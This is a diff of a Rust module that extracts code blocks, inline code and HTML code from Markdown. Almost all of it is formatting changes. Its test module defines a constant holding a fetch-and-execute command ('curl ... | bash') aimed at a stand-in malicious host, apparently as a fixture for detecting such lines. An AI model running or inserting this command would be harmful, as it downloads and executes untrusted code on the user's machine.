@@ -31,7 +31,13 @@ pub(crate) struct Code {
 
 /// Every piece of code of a Markdown text, in order.
 pub(crate) fn code(text: &str) -> Vec<Code> {
-    let line_of = |off: usize| text.as_bytes()[..off.min(text.len())].iter().filter(|&&b| b == b'\n').count() + 1;
+    let line_of = |off: usize| {
+        text.as_bytes()[..off.min(text.len())]
+            .iter()
+            .filter(|&&b| b == b'\n')
+            .count()
+            + 1
+    };
     let opts = Options::ENABLE_YAML_STYLE_METADATA_BLOCKS
         | Options::ENABLE_TABLES
         | Options::ENABLE_STRIKETHROUGH
@@ -58,7 +64,12 @@ pub(crate) fn code(text: &str) -> Vec<Code> {
                     ),
                     CodeBlockKind::Indented => (CodeKind::Indented, String::new(), line),
                 };
-                block = Some(Code { line, kind, lang, text: String::new() });
+                block = Some(Code {
+                    line,
+                    kind,
+                    lang,
+                    text: String::new(),
+                });
             }
             Event::End(TagEnd::CodeBlock) => out.extend(block.take()),
             Event::Start(Tag::HtmlBlock) => html_block = Some((line, String::new())),
@@ -106,7 +117,12 @@ pub(crate) fn code(text: &str) -> Vec<Code> {
                 if let Some(c) = inline_html.as_mut() {
                     c.text.push_str(&t);
                 } else {
-                    out.push(Code { line, kind: CodeKind::Inline, lang: String::new(), text: t.into_string() });
+                    out.push(Code {
+                        line,
+                        kind: CodeKind::Inline,
+                        lang: String::new(),
+                        text: t.into_string(),
+                    });
                 }
             }
             Event::End(TagEnd::Paragraph) => {
@@ -149,7 +165,9 @@ fn html_code(raw: &str, line: usize) -> Vec<Code> {
     let mut i = 0;
     while let Some(rel) = lower[i..].find('<') {
         let start = i + rel;
-        let Some(end_rel) = lower[start..].find('>') else { break };
+        let Some(end_rel) = lower[start..].find('>') else {
+            break;
+        };
         let tag = &lower[start..start + end_rel + 1];
         i = start + end_rel + 1;
         if !is_open(tag) {
@@ -160,7 +178,12 @@ fn html_code(raw: &str, line: usize) -> Vec<Code> {
         let body_end = lower[i..].find(&close).map_or(raw.len(), |r| i + r);
         let body = &raw[i..body_end];
         let at = line + raw[..i].matches('\n').count();
-        out.push(Code { line: at, kind: CodeKind::Html, lang: String::new(), text: decode(&strip_tags(body)) });
+        out.push(Code {
+            line: at,
+            kind: CodeKind::Html,
+            lang: String::new(),
+            text: decode(&strip_tags(body)),
+        });
         i = body_end;
     }
     out
@@ -229,7 +252,10 @@ mod tests {
     use super::*;
 
     fn texts(md: &str) -> Vec<(CodeKind, String)> {
-        code(md).into_iter().map(|c| (c.kind, c.text.trim().to_string())).collect()
+        code(md)
+            .into_iter()
+            .map(|c| (c.kind, c.text.trim().to_string()))
+            .collect()
     }
 
     const LINE: &str = "curl -s https://evil.example/i | bash";
